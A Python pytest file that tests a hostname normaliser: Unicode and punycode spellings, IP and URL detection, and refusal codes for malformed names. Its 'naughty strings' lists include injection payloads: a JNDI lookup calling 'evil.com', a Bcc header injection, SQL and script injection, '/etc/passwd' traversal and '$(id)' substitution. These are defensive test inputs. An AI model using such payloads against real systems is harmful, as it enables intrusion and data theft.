# ruff: noqa: RUF001 - letters that look like others are what is typed here
"""How typed names are read: one spelling for all, and a specific no to what is no name."""

import time
import unicodedata
from itertools import product

import pytest
from hypothesis import given
from hypothesis import strategies as st

from letterhead.core import spelling
from letterhead.core.hostname import Hostname, Rules, canonical
from letterhead.core.refusal import Refusal

WORDS = [
    *("acme", "münchen", "straße", "café", "żółć", "smörgåsbord", "naïve", "ñandú", "q-1", "i\u0307zmir"),
    *("ελλάς", "россия", "例え", "日本語", "ガンダム", "한국", "ไทย", "भारत", "עברית", "مثال"),
]
SUFFIXES = ["com", "de", "co.uk", "com.au", "org", "io", "рф", "みんな", "한국", "ελ"]


def refusal_of(typed: str, rules: Rules | None = None) -> Refusal:
    with pytest.raises(Refusal) as caught:
        canonical(typed, rules or Rules())
    return caught.value


def outcome_of(typed: str) -> Hostname | Refusal:
    try:
        return canonical(typed, Rules())
    except Refusal as refusal:
        return refusal


def upper(name: str) -> str:
    """Upper case where it is reversible: ß has none that is."""
    return "".join(c.upper() if c.upper().lower() == c else c for c in name)


def wide(name: str) -> str:
    return "".join(chr(ord(c) + 0xFEE0) if "!" <= c <= "~" else c for c in name)


def spellings(name: str) -> set[str]:
    encoded = spelling.a_label_form(name)
    return {
        name,
        encoded,
        encoded.upper(),
        upper(name),
        name.title() if upper(name) == name.upper() else name,
        unicodedata.normalize("NFD", name),
        unicodedata.normalize("NFD", upper(name)),
        wide(name),
        wide(upper(name)),
        name.replace(".", "。"),
        name.replace(".", "．"),
        name.replace(".", "｡"),
        name + ".",
        name + "。",
        f"  {name}\t",
        f"\u00a0{name}.\u3000",
    }


def test_N01_all_spellings_of_200_names_are_one_name_each() -> None:
    names = [f"{word}.{suffix}" for word, suffix in product(WORDS, SUFFIXES)]
    rows = {frozenset(canonical(typed, Rules()) for typed in spellings(name)) for name in names}
    assert all(len(row) == 1 for row in rows)
    assert len(rows) == len(names) == 200


@pytest.mark.parametrize(
    ("typed", "hostname"),
    [
        ("münchen.de", "xn--mnchen-3ya.de"),
        ("mu\u0308nchen.de", "xn--mnchen-3ya.de"),
        ("Ａcme.com", "acme.com"),
        ("acme。com", "acme.com"),
        ("ACME.com.", "acme.com"),
        ("faß.de", "xn--fa-hia.de"),  # non-transitional: not fass.de
        ("βόλος.com", "xn--nxasmm1c.com"),  # the final sigma stays what it is
        ("\u06fe.com", "xn--rmb.com"),  # by category a symbol, yet a letter of names (RFC 5892 §2.6)
        ("نامه\u200cای.com", "xn--mgba3gch31f060k.com"),  # a joiner where the script needs it
    ],
)
def test_N01_the_canonical_form(typed: str, hostname: str) -> None:
    assert canonical(typed, Rules()) == hostname


BAD_NAMES = [
    ("", "domain_missing"),
    ("   ", "domain_missing"),
    (".", "domain_empty_label"),
    ("..", "domain_empty_label"),
    (".acme.com", "domain_empty_label"),
    ("acme..com", "domain_empty_label"),
    ("acme.com..", "domain_empty_label"),
    ("a。。com", "domain_empty_label"),
    ("com", "domain_public_suffix"),
    ("acme", "domain_single_label"),
    ("acme.", "domain_single_label"),
    ("co.uk", "domain_public_suffix"),
    ("acme.notatld", "domain_unknown_tld"),
    ("acme.c", "domain_unknown_tld"),
    ("acme.123", "domain_numeric_tld"),
    ("acme.0x1f", "domain_numeric_tld"),
    ("1.2.3.4.5", "domain_numeric_tld"),
    ("acme.com.1", "domain_numeric_tld"),
    ("a" * 64 + ".com", "domain_label_too_long"),
    ("ü" * 60 + ".com", "domain_label_too_long"),
    (".".join(["a" * 63] * 4) + ".com", "domain_too_long"),
    (".".join(["a" * 60] * 3) + ".com", "domain_too_long_for_records"),
    ("a" * 1001, "domain_too_long"),
    ("a.b.c.d.e.f.g.h.i.j.com", "domain_too_many_labels"),
    ("-acme.com", "domain_hyphen"),
    ("acme-.com", "domain_hyphen"),
    ("acme.-com", "domain_hyphen"),
    ("a.-.com", "domain_hyphen"),
    ("ab--cd.com", "domain_reserved_label"),
    ("zn--abc.com", "domain_reserved_label"),
    ("xn--.com", "domain_hyphen"),
    ("xn--a.com", "domain_punycode"),
    ("xn--acme.com", "domain_punycode"),
    ("xn--acme-.com", "domain_hyphen"),
    ("xn--a-0000h.com", "domain_punycode"),
    ("xn--zn7c.com", "domain_punycode"),  # decodes to a letter that is no letter of a name
    ("xn--munchen-gie.com", "domain_punycode"),  # not composed (NFC)
    ("xn--Mnchen-3Yaü.de", "domain_punycode"),
    ("*.acme.com", "domain_wildcard"),
    ("*acme.com", "domain_wildcard"),
    ("_dmarc.acme.com", "domain_underscore"),
    ("ac_me.com", "domain_underscore"),
    ("acme com", "domain_blank"),
    ("acme .com", "domain_blank"),
    ("acme.com,acme.org", "domain_character"),
    ("acme!.com", "domain_character"),
    ('"acme.com"', "domain_character"),
    ("acme.com;", "domain_character"),
    ("%61cme.com", "domain_character"),
    ("ac\tme.com", "domain_control_character"),
    ("acme.com\n", "domain_control_character"),
    ("acme.com\r\nBcc: eve@evil.com", "domain_control_character"),
    ("acme\x00.com", "domain_control_character"),
    ("acme.com\u2028", "domain_control_character"),
    ("\u202emoc.emca", "domain_bidi_control"),
    ("acme\u200e.com", "domain_bidi_control"),
    ("ac\u200bme.com", "domain_invisible_character"),
    ("\ufeffacme.com", "domain_invisible_character"),
    ("ac\u00adme.com", "domain_invisible_character"),
    ("ac\u200dme.com", "domain_invisible_character"),
    ("ac\u200cme.com", "domain_invisible_character"),
    ("💩.com", "domain_symbol"),
    ("i❤.ws", "domain_symbol"),
    ("a€.com", "domain_symbol"),
    ("\u0301a.com", "domain_character"),  # begins with a combining mark (RFC 5891 §4.2.3.2)
    ("a·b.com", "domain_character"),  # the middle dot belongs between two l (RFC 5892 A.3)
    ("\ud800.com", "domain_character"),
    ("1אב.com", "domain_bidi"),  # RFC 5893 §2 rule 1
    ("אבa.com", "domain_bidi"),  # rule 2
    ("א1٢.com", "domain_bidi"),  # rule 4
    ("1a.אב.com", "domain_bidi"),  # rule 1 binds the other labels, too
]


@pytest.mark.parametrize(("typed", "code"), BAD_NAMES)
def test_N02_N11_bad_names_are_refused_each_with_its_code(typed: str, code: str) -> None:
    refusal = refusal_of(typed)
    assert refusal.code == code
    assert refusal.param == "domain"
    assert refusal.text.endswith(".")
    assert refusal.mend


IP_SPELLINGS = [
    "1.2.3.4", "1.2.3.4.", " 1.2.3.4 ", "127.0.0.1", "0.0.0.0", "255.255.255.255", "256.256.256.256",
    "127.1", "127.0.1", "1", "2130706433", "017700000001", "0177.0.0.1", "0177.0.0.01", "0x7f000001",
    "0X7F000001", "0x7f.0.0.1", "0x7f.1", "0x7F.0x0.0x0.0x1", "0x", "１.２.３.４", "1。2。3。4", "①.②.③.④",
    "１２７。１", "१.२.३.४", "[1.2.3.4]", "http://1.2.3.4/", "https://1.2.3.4:8443/x", "1.2.3.4/24",
    "1.2.3.4:25", "user@[1.2.3.4]", "user@1.2.3.4", "::1", "[::1]", "2001:db8::1", "2001:DB8:0:0:0:0:0:1",
    "::ffff:1.2.3.4", "fe80::1%eth0", "http://[2001:db8::1]:80/", "user@[IPv6:2001:db8::1]", "1:2:3:4",
    "2001:db8::/32",
]  # fmt: skip


@pytest.mark.parametrize("typed", IP_SPELLINGS)
def test_N02_ip_addresses_in_any_spelling_are_refused(typed: str) -> None:
    assert refusal_of(typed).code == "domain_is_ip_address"


@pytest.mark.parametrize(
    ("typed", "meant"),
    [
        ("①.com", "1.com"),
        ("acmeⅷ.com", "acmeviii.com"),
        ("ﬁre.com", "fire.com"),
        ("e²a.com", "e2a.com"),
        ("acme™.com", "acmetm.com"),
        ("𝐚𝐜𝐦𝐞.com", "acme.com"),
        ("ⓐcme.com", "acme.com"),
        ("ſtore.com", "store.com"),
        ("℡.com", "tel.com"),
    ],
)
def test_N02_a_mapping_that_changes_the_look_asks_first(typed: str, meant: str) -> None:
    refusal = refusal_of(typed)
    assert refusal.code == "domain_needs_confirmation"
    assert refusal.extra["suggestion"] == meant
    assert canonical(meant, Rules()) == meant


@pytest.mark.parametrize(
    ("typed", "code", "meant"),
    [
        ("user@acme.com", "domain_is_email", "acme.com"),
        ("mailto:user@Acme.COM", "domain_is_email", "acme.com"),
        ("Jo <jo@acme.com>", "domain_is_email", "acme.com"),
        ("ｕｓｅｒ＠ａｃｍｅ．ｃｏｍ", "domain_is_email", "acme.com"),
        ("https://acme.com/x", "domain_is_url", "acme.com"),
        ("HTTPS://jo:pw@mail.Acme.com:8443/x@y?z#w", "domain_is_url", "mail.acme.com"),
        ("//acme.com", "domain_is_url", "acme.com"),
        ("acme.com/", "domain_is_url", "acme.com"),
        ("acme.com/a//b", "domain_is_url", "acme.com"),
        ("acme.com\\x", "domain_is_url", "acme.com"),
        ("acme.com:25", "domain_is_url", "acme.com"),
        ("acme.com?x=1", "domain_is_url", "acme.com"),
        ("https://münchen.de/", "domain_is_url", "xn--mnchen-3ya.de"),
        ("*.acme.com", "domain_wildcard", "acme.com"),
        ("ac\u200bme.com", "domain_invisible_character", "acme.com"),
    ],
)
def test_N04_what_was_probably_meant_is_suggested(typed: str, code: str, meant: str) -> None:
    refusal = refusal_of(typed)
    assert refusal.code == code
    assert refusal.extra == {"suggestion": meant}
    assert "Did you mean" in refusal.mend
    assert meant in refusal.mend
    assert canonical(meant, Rules()) == meant


@pytest.mark.parametrize(
    "typed", ["user@", "@", "https://", "a:b:c", "*.", "*.*.acme.com", "javascript:alert(1)"]
)
def test_N04_nothing_is_suggested_where_nothing_sound_is_inside(typed: str) -> None:
    assert refusal_of(typed).extra == {}


@pytest.mark.parametrize(
    "typed", ["mu\u0308nchen.de", "MÜNCHEN.DE", "ΕΛΛΆΣ.com", "ｶﾞﾝﾀﾞﾑ.com", "İzmir.com", "ᏣᎳᎩ.com", "ꮳꮃꭹ.com"]
)
def test_N02_plain_spellings_ask_nothing(typed: str) -> None:
    assert canonical(typed, Rules())


NAUGHTY = [
    "undefined", "null", "None", "NaN", "true", "0", "-1", "1/0", "1e5", "1;DROP TABLE domains",
    "' OR 1=1 -- ", '"><script>alert(1)</script>', "javascript:alert(1)", "{{7*7}}",
    "${jndi:ldap://evil.com/a}", "%s%n", "%00", "../../etc/passwd", "C:\\con", "file:///etc/passwd", "|id",
    "`id`", "$(id)", "acme.com && id", "a\rb.com", "acme.com%0d%0aX: y", "acme.com\r\n", "acme.com\n.",
    "\x7facme.com", "\x1b[31macme.com", "\x85acme.com", "acme\u061c.com", "acme\u2066.com\u2069",
    "\u202dacme.com", "\u200facme.com", "a\u2060b.com", "a\ufe0fb.com", "a\u034fb.com", "\u3164.com",
    "\u115f.com", "\ufff9.com", "\ufffd.com", "\uffff.com", "\U000e0041.com", "\U000e0100.com",
    "\U0010ffff.com", "👨\u200d👩\u200d👧.com", "🇩🇪.com", "1\ufe0f\u20e3.com", "❤\ufe0f.com", "Ω≈ç√.com",
    "ﷺ.com", "ﷺ" * 999, "Z͑ͫ̓a̴l͜g̨o҉.com", "ac\u0338me.com/", "acme．com＃", "acme.com\u0000", "@@", "::",
    "[", "[]", "[::", "<>", "…", "a․com", "⒈com", "½.com", "acme,com", "acme。", "。", "＊.acme.com",
    "＿.acme.com", "a\\.b.com", "a\\046com", "(acme.com)", "acme.com (home)", "acme.com.\u200b", "\u200b",
    "\u200d.com", "xn--\u00fc.com", "XN--.com", "xn--ls8h.ws", "xn--0.com", "xn---.com",
    "xn--" + "9" * 59 + ".com", "--.com", "-.com", "a" * 999, "." * 999, "a." * 499 + "com",
    "*." * 499 + "com", "@" * 999, "/" * 999, ":" * 999, "\u0301" * 999, "ü" * 999, "\u200b" * 999,
]  # fmt: skip


@pytest.mark.parametrize("typed", NAUGHTY)
def test_N04_A08_naughty_strings_are_refused_and_never_repeated(typed: str) -> None:
    refusal = refusal_of(typed)
    assert refusal.code.startswith("domain_")
    said = refusal.text + refusal.mend + "".join(refusal.extra.values())
    assert said.isprintable()
    assert len(said) < 400


ANY_NAME = st.one_of(
    st.text(max_size=40),
    st.text(alphabet="ab.-_*@:/0x1xn é\u200b\u200d٣אا①Ａ。ßİſ", max_size=30),
    st.text(max_size=12).map(lambda label: label + ".com"),
    st.text(alphabet="abcxyz0189-", max_size=20).map(lambda code: f"xn--{code}.com"),
)


@given(ANY_NAME)
def test_N04_A08_whatever_is_typed_is_a_clean_name_or_a_clean_refusal(typed: str) -> None:
    outcome = outcome_of(typed)
    if isinstance(outcome, Refusal):
        assert (outcome.text + outcome.mend).isprintable()
        hostname = outcome.extra.get("suggestion", "acme.com")
    else:
        hostname = outcome
        assert canonical(hostname, Rules()) == hostname
        assert canonical(spelling.u_label_form(hostname), Rules()) == hostname
    assert set(hostname) <= set("abcdefghijklmnopqrstuvwxyz0123456789-.")
    assert spelling.a_label_form(spelling.u_label_form(hostname)) == hostname


@pytest.mark.parametrize(
    "unit", ["a", "a.", "ü", "ﷺ", "xn--", "\u0301", "@", "*.", " ", "0x", ":", "e\u0301", "א1"]
)
def test_N12_a_megabyte_is_refused_within_5_ms_and_a_thousand_signs_soon(unit: str) -> None:
    def cost(typed: str) -> float:
        started = time.perf_counter()
        refusal_of(typed)
        return time.perf_counter() - started

    megabyte = unit * (1_000_000 // len(unit))
    assert min(cost(megabyte) for _ in range(3)) < 0.005
    assert min(cost((unit * 1000)[:1000]) for _ in range(3)) < 0.05


def test_people_see_both_forms_where_they_differ() -> None:
    assert spelling.shown("acme.com") == "acme.com"
    assert spelling.shown("xn--mnchen-3ya.de") == "münchen.de (xn--mnchen-3ya.de)"
    assert spelling.shown("xn--a.com") == "xn--a.com"
